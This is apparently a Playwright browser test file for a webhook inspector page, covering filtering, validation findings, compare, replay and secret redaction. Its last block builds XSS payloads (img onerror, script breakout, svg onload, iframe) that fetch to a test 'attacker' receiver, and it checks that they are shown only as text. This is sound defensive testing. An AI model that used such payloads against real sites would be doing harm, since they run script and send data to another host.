/**
 * The inspector's page in a real Chromium (playwright-core), against the built bin's `listen`
 * and `inspect` and real loopback receivers: live rows, filters in the URL, findings in the tree,
 * compare, edit and replay, the keyboard, and payload text that stays text.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { IndexEntry } from '../../src/core/capture/captureFormat.js';
import { browserTestsRun, launch, openTab, shownSeqs, waitForRows, type Tab } from '../helpers/browser.js';
import { runCli, startReceiver, tempDir } from '../helpers/cli.js';
import { appendCapture, delivery, startInspect, type Inspecting } from '../helpers/inspect.js';
import { send, startListen } from '../helpers/listen.js';

const run = browserTestsRun();
let cleanups: (() => unknown)[] = [];
let browser: Browser;
let dir: string;
let ins: Inspecting;
let entries: IndexEntry[];

function invalid(eventId: number, recordId: number, title: string): Buffer {
  const v = JSON.parse(delivery('PROJECT_MOVEMENT', eventId, { recordId, title }).toString('utf8'));
  v.event.eventId = String(eventId);
  return Buffer.from(JSON.stringify(v, null, 2));
}

beforeAll(async () => {
  if (!run) return;
  browser = await launch();
  cleanups.push(() => browser.close());
  const t = await tempDir('inspect-page-');
  cleanups.push(t.cleanup);
  dir = path.join(t.dir, 'captures');
  entries = appendCapture(dir, [
    { body: delivery('PROJECT_MOVEMENT', 1, { recordId: 100, title: 'Alpha' }) },
    { body: delivery('TASK_STATUS_MOVEMENT', 2, { recordId: 200, title: 'Beta' }) },
    { body: delivery('PROJECT_MOVEMENT', 3, { recordId: 100, title: 'Alpha', stage: 'Permitting' }) },
    { body: invalid(4, 300, 'Gamma') },
    { body: delivery('PROJECT_MOVEMENT', 3, { recordId: 100, title: 'Alpha', stage: 'Permitting' }) },
    { body: delivery('PROJECT_MOVEMENT', 6, { recordId: 400, title: 'needle-7731' }) },
  ]);
  ins = await startInspect(dir);
  cleanups.push(() => ins.run.stop());
});

afterAll(async () => {
  for (const c of cleanups.reverse()) await c();
  cleanups = [];
});

async function tab(url = ins.url): Promise<Tab> {
  const t = await openTab(browser);
  cleanups.push(() => t.context.close());
  await t.page.goto(url);
  return t;
}

describe.skipIf(!run)('inspector page', () => {
  it('shows deliveries from listen live, without a reload, and counts rejected requests', async () => {
    const t = await tempDir('inspect-page-live-');
    cleanups.push(t.cleanup);
    const l = await startListen(path.join(t.dir, 'captures'), ['--ui-port', '0', '--json', '--token', 's3cret']);
    cleanups.push(() => l.run.stop());
    const ready = JSON.parse((await l.run.waitFor(/^(\{"type":"ready".*)$/m, 'stdout'))[1]);
    const { page } = await tab(ready.inspectorUrl);
    await page.locator('.list-end.empty').waitFor();
    await page.locator('.live.live').waitFor();
    expect(new URL(page.url()).searchParams.has('token')).toBe(false);

    expect((await send(l.url, delivery('PROJECT_MOVEMENT', 77, { recordId: 5, title: 'Live one' }))).status).toBe(200);
    await waitForRows(page, [1]);
    expect(await page.locator('.row[data-seq="1"]').innerText()).toMatch(/PROJECT_MOVEMENT[\s\S]*5[\s\S]*Live one[\s\S]*valid/);
    expect((await send(l.url, delivery('TASK_CREATED', 78))).status).toBe(200);
    await waitForRows(page, [2, 1]);
    await page.locator('.total', { hasText: '2 deliveries' }).waitFor();

    expect((await send(`${l.base}/`, delivery('PROJECT_MOVEMENT', 79))).status).toBe(401);
    await page.locator('.rejected', { hasText: '1 rejected' }).waitFor();
    await waitForRows(page, [2, 1]);
  });

  it('puts a live delivery on top only when it passes the filters, and offers to search new ones', async () => {
    const t = await tempDir('inspect-page-live-filter-');
    cleanups.push(t.cleanup);
    const l = await startListen(path.join(t.dir, 'captures'), ['--ui-port', '0', '--json']);
    cleanups.push(() => l.run.stop());
    const ready = JSON.parse((await l.run.waitFor(/^(\{"type":"ready".*)$/m, 'stdout'))[1]);
    const { page } = await tab(`${ready.inspectorUrl}&trigger=TASK_CREATED`);
    await page.locator('.live.live').waitFor();
    expect((await send(l.url, delivery('PROJECT_MOVEMENT', 1))).status).toBe(200);
    expect((await send(l.url, delivery('TASK_CREATED', 2))).status).toBe(200);
    await waitForRows(page, [2]);
    await page.locator('.total', { hasText: '2 deliveries' }).waitFor();
    expect(await shownSeqs(page)).toEqual([2]);

    // The server searches bodies; a live row is not searched, so the page says so instead.
    await page.getByLabel('Search the bodies').fill('Needle-in-3');
    await page.getByLabel('Search the bodies').press('Enter');
    await page.locator('.list-end.empty').waitFor();
    expect((await send(l.url, delivery('TASK_CREATED', 3, { title: 'needle-in-3' }))).status).toBe(200);
    const banner = page.getByRole('button', { name: '1 new delivery arrived; search them too' });
    await banner.click();
    await waitForRows(page, [3]);
    await banner.waitFor({ state: 'detached' });
  });

  it('filters by trigger, verdict, duplicates, record and body text, with the state in the URL', async () => {
    const { page, context } = await tab();
    await waitForRows(page, [6, 5, 4, 3, 2, 1]);
    await page.getByLabel('Trigger').selectOption('TASK_STATUS_MOVEMENT');
    await waitForRows(page, [2]);
    expect(new URL(page.url()).searchParams.get('trigger')).toBe('TASK_STATUS_MOVEMENT');
    await page.getByLabel('Trigger').selectOption('');
    await page.getByLabel('Verdict').selectOption('invalid');
    await waitForRows(page, [4]);

    await page.goBack();
    await waitForRows(page, [6, 5, 4, 3, 2, 1]);
    await page.goBack();
    await waitForRows(page, [2]);
    expect(await page.getByLabel('Trigger').inputValue()).toBe('TASK_STATUS_MOVEMENT');
    await page.goForward();
    await page.goForward();
    await waitForRows(page, [4]);

    await page.getByLabel('Verdict').selectOption('');
    await page.getByLabel('Duplicates').selectOption('1');
    await waitForRows(page, [5]);
    await page.getByLabel('Duplicates').selectOption('');
    await page.getByLabel('Record id').fill('100');
    await page.getByLabel('Record id').press('Enter');
    await waitForRows(page, [5, 3, 1]);
    await page.getByRole('button', { name: 'Clear' }).click();
    await waitForRows(page, [6, 5, 4, 3, 2, 1]);

    // The search runs on the server, over the bodies.
    await page.locator('.list-body').focus();
    await page.keyboard.press('/');
    await page.keyboard.type('NEEDLE-7731');
    await page.keyboard.press('Enter');
    await waitForRows(page, [6]);
    expect(new URL(page.url()).searchParams.get('q')).toBe('NEEDLE-7731');

    // A pasted link opens the same view (same browser, so the session cookie is there).
    const pasted = await context.newPage();
    await pasted.goto(`${ins.origin}/?verdict=invalid&duplicates=0`);
    await waitForRows(pasted, [4]);
    expect(await pasted.getByLabel('Verdict').inputValue()).toBe('invalid');
  });

  it('shows every finding of an invalid delivery and marks its path in the tree', async () => {
    const { page } = await tab();
    await page.locator('.row[data-seq="4"]').click();
    const finding = page.locator('.finding', { hasText: 'event.eventId' });
    await finding.waitFor();
    expect(await finding.innerText()).toMatch(/error[\s\S]*event\.eventId[\s\S]*expected a number, got the string "4"/i);
    const node = page.locator('.tree-line[data-path="event.eventId"]');
    expect(await node.getAttribute('class')).toContain('mark-error');
    expect(await node.innerText()).toContain('"eventId": "4"');
    await finding.locator('button').click();
    expect(await node.getAttribute('class')).toContain('focus');
    expect(new URL(page.url()).searchParams.get('open')).toBe('4');
    await page.getByRole('tab', { name: 'Raw' }).click();
    expect(await page.locator('pre.raw').innerText()).toBe(invalid(4, 300, 'Gamma').toString('utf8'));
  });

  it('compares with the previous delivery of the record, as diff --format json does', async () => {
    const { page } = await tab(`${ins.url}&open=3`);
    await page.locator('.detail-head').waitFor();
    await page.keyboard.press('c');
    await page.locator('table.changes').waitFor();
    expect(await page.locator('.compare-bar').innerText()).toMatch(/#3 against #1/);
    const shown = await page.locator('table.changes .path').allInnerTexts();
    expect(shown).toContain('event.currentStage.name');
    const cli = await runCli(['diff', path.join(dir, entries[0].file), path.join(dir, entries[2].file), '--format', 'json', '--ignore-volatile']);
    expect(shown).toEqual(JSON.parse(cli.stdout).changes.map((c: { path: string }) => c.path));

    // Any delivery picked from the list instead.
    await page.getByRole('button', { name: 'Pick from list' }).click();
    await page.locator('.row[data-seq="6"]').click();
    await page.locator('.compare-bar', { hasText: '#3 against #6' }).waitFor();
    await page.locator('table.changes .path', { hasText: 'record.title' }).waitFor();
  });

  it('replays an edited payload: the receiver gets exactly the edited bytes, the page its answer', async () => {
    const receiver = await startReceiver((_r, res) => res.writeHead(202, { 'x-receiver': 'middleware' }).end('accepted'));
    cleanups.push(() => receiver.close());
    const { page } = await tab(`${ins.url}&open=1`);
    await page.locator('.detail-head').waitFor();
    await page.keyboard.press('r');
    await page.getByLabel('Replay target URL').fill(`${receiver.url}/hook?from=inspector`);
    await page.getByLabel('edit the body first').check();
    const editor = page.getByLabel('Payload to send');
    expect(await editor.inputValue()).toBe(delivery('PROJECT_MOVEMENT', 1, { recordId: 100, title: 'Alpha' }).toString('utf8'));

    // Findings as you type: the trigger's schema says eventId is a number.
    await editor.fill(invalid(1, 100, 'Alpha').toString('utf8'));
    await page.locator('.editor .finding', { hasText: 'event.eventId' }).waitFor();
    const edited = delivery('PROJECT_MOVEMENT', 1, { recordId: 100, title: 'Alpha — edited ✓' }).toString('utf8');
    await editor.fill(edited);
    await page.locator('.editor .all-good').waitFor();

    await page.getByRole('button', { name: 'Send #1' }).click();
    await receiver.waitForCount(1);
    expect(receiver.received[0].body.equals(Buffer.from(edited, 'utf8'))).toBe(true);
    expect(receiver.received[0].url).toBe('/hook?from=inspector');
    const result = page.locator('.replay-result');
    await result.waitFor();
    expect(await result.locator('.status').innerText()).toBe('202');
    expect(await result.innerText()).toMatch(/delivered/);
    await result.locator('summary').click();
    expect(await result.innerText()).toMatch(/x-receiver\s+middleware[\s\S]*accepted/);
  });

  it('replays the filtered selection oldest first, as stored, and tells how it went', async () => {
    const receiver = await startReceiver();
    cleanups.push(() => receiver.close());
    const { page } = await tab(`${ins.url}&record=100`);
    await waitForRows(page, [5, 3, 1]);
    await page.getByRole('button', { name: 'Replay these…' }).click();
    const dialog = page.getByRole('dialog', { name: 'Replay the selection' });
    expect(await dialog.locator('h2').innerText()).toBe('Replay 3 deliveries');
    await dialog.getByLabel('Replay target URL').fill(receiver.url);
    await dialog.getByRole('button', { name: 'Send' }).click();
    await dialog.locator('.progress', { hasText: '3 of 3 sent · 3 delivered · 0 failed · done' }).waitFor();
    expect(receiver.received.map((r) => r.body.toString('utf8'))).toEqual([0, 2, 4].map((i) => readFileSync(path.join(dir, entries[i].file), 'utf8')));
  });

  it('copies a delivery as curl with the target\'s secrets redacted unless shown', async () => {
    const { page } = await tab(`${ins.url}&open=1&tab=replay`);
    await page.getByLabel('Replay target URL').fill('http://127.0.0.1:9/hook?key=s3cret-value');
    await page.getByRole('button', { name: 'curl' }).click();
    const command = page.getByRole('dialog', { name: 'Copy as curl' }).locator('pre');
    await command.filter({ hasText: 'curl' }).waitFor();
    expect(await command.innerText()).toContain(`http://127.0.0.1:9/hook?key=***`);
    expect(await command.innerText()).toContain(`--data-binary @${path.join(dir, entries[0].file)}`);
    expect(await command.innerText()).not.toContain('s3cret-value');
    await page.getByLabel('show secrets').check();
    await command.filter({ hasText: 's3cret-value' }).waitFor();
  });

  it('asks before replaying to another machine, and sends nothing when told no', async () => {
    const { page } = await tab(`${ins.url}&open=2&tab=replay`);
    await page.getByLabel('Replay target URL').fill('http://192.0.2.10/hook');
    await page.getByRole('button', { name: 'Send #2' }).click();
    const confirm = page.getByRole('alertdialog');
    await confirm.waitFor();
    expect(await confirm.innerText()).toMatch(/http:\/\/192\.0\.2\.10 is not this machine/);
    await confirm.getByRole('button', { name: 'Cancel' }).click();
    await confirm.waitFor({ state: 'detached' });
    expect(await page.locator('.replay-result').count()).toBe(0);
  });

  it('moves with j/k, opens with Enter, compares with c, replays with r, helps with ?', async () => {
    const { page } = await tab();
    await waitForRows(page, [6, 5, 4, 3, 2, 1]);
    await page.keyboard.press('j');
    await page.keyboard.press('j');
    await page.keyboard.press('k');
    await page.keyboard.press('ArrowDown');
    await page.locator('.row.current[data-seq="5"]').waitFor();
    await page.keyboard.press('Enter');
    await page.locator('.detail-head h2', { hasText: '#5' }).waitFor();
    await page.keyboard.press('c');
    await page.getByRole('tab', { name: 'Compare', selected: true }).waitFor();
    await page.keyboard.press('r');
    await page.getByRole('tab', { name: 'Replay', selected: true }).waitFor();
    await page.keyboard.press('j');
    await page.locator('.detail-head h2', { hasText: '#4' }).waitFor();
    await page.keyboard.press('?');
    const help = page.getByRole('dialog', { name: 'Keyboard shortcuts' });
    expect(await help.innerText()).toMatch(/Enter\s+open the highlighted delivery/);
    await page.keyboard.press('Escape');
    await help.waitFor({ state: 'detached' });
    await page.keyboard.press('Escape');
    await page.locator('.detail').waitFor({ state: 'detached' });
  });

  it('answers 401 to a browser without the token', async () => {
    const t = await openTab(browser);
    cleanups.push(() => t.context.close());
    const res = await t.page.goto(`${ins.origin}/?verdict=invalid`);
    expect(res?.status()).toBe(401);
    expect(await t.page.locator('body').innerText()).toMatch(/needs its token/);
  });
});

describe.skipIf(!run)('inspector page: hostile payload text', () => {
  it('shows markup from a payload as text: no dialog, no element, no request', async () => {
    const attacker = await startReceiver();
    cleanups.push(() => attacker.close());
    const t = await tempDir('inspect-page-xss-');
    cleanups.push(t.cleanup);
    const xdir = path.join(t.dir, 'captures');
    const title = `<img src=x onerror="alert(1);fetch('${attacker.url}/title')">`;
    const stage = `</script><script>alert(2);fetch('${attacker.url}/stage')</script>`;
    const v = JSON.parse(delivery('PROJECT_MOVEMENT', 1, { recordId: 1, title, stage }).toString('utf8'));
    v.record[`<svg onload="fetch('${attacker.url}/key')">`] = `<iframe src="${attacker.url}/frame"></iframe>`;
    appendCapture(xdir, [{ body: delivery('PROJECT_MOVEMENT', 2, { recordId: 1, title: 'before' }) }, { body: Buffer.from(JSON.stringify(v, null, 2)), headers: { 'x-note': `<b onmouseover="fetch('${attacker.url}/header')">` } }]);
    const x = await startInspect(xdir);
    cleanups.push(() => x.run.stop());
    const { page, dialogs, errors } = await tab(x.url);
    await waitForRows(page, [2, 1]);
    expect(await page.locator('.row[data-seq="2"] .c-record').innerText()).toContain(title);
    expect(await page.locator('.row[data-seq="2"] .c-moved').innerText()).toContain(stage);
    await page.locator('.row[data-seq="2"]').click();
    await page.locator('.tree-line', { hasText: '<svg onload=' }).waitFor();
    const shows: [string, string][] = [['Raw', 'pre.raw'], ['Compare', 'table.changes'], ['Replay', '.replay'], ['Headers', 'table.headers']];
    for (const [name, selector] of shows) {
      await page.getByRole('tab', { name }).click();
      await page.locator(selector).waitFor();
    }
    await page.locator('table.headers td', { hasText: '<b onmouseover=' }).hover();
    const injected = await page.$$eval('img, svg, iframe, b[onmouseover], script:not([src]), [onerror], [onload]', (els) => els.map((e) => e.outerHTML));
    expect(injected).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(errors).toEqual([]);
    expect(attacker.received).toEqual([]);
    expect(await shownSeqs(page)).toEqual([2, 1]);
  });
});
